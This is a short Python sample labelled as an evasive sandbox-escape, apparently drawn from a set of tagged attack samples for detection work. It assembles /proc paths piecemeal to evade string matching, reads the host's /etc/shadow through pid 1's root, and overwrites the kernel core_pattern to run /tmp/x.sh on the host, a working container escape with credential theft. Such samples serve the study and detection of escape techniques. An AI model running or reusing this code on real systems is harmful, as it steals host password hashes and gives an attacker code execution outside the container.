# family: sandbox-escape
# evasive: /proc paths built at run time to read the host's root through pid 1
import os

base = "/pr" + "oc/"
target = base + str(1) + "/ro" + "ot/etc/shadow"
with open(target) as f:
    print(f.read())
with open(base + "sys/kernel/core_pattern", "w") as f:
    f.write("|/tmp/x.sh")
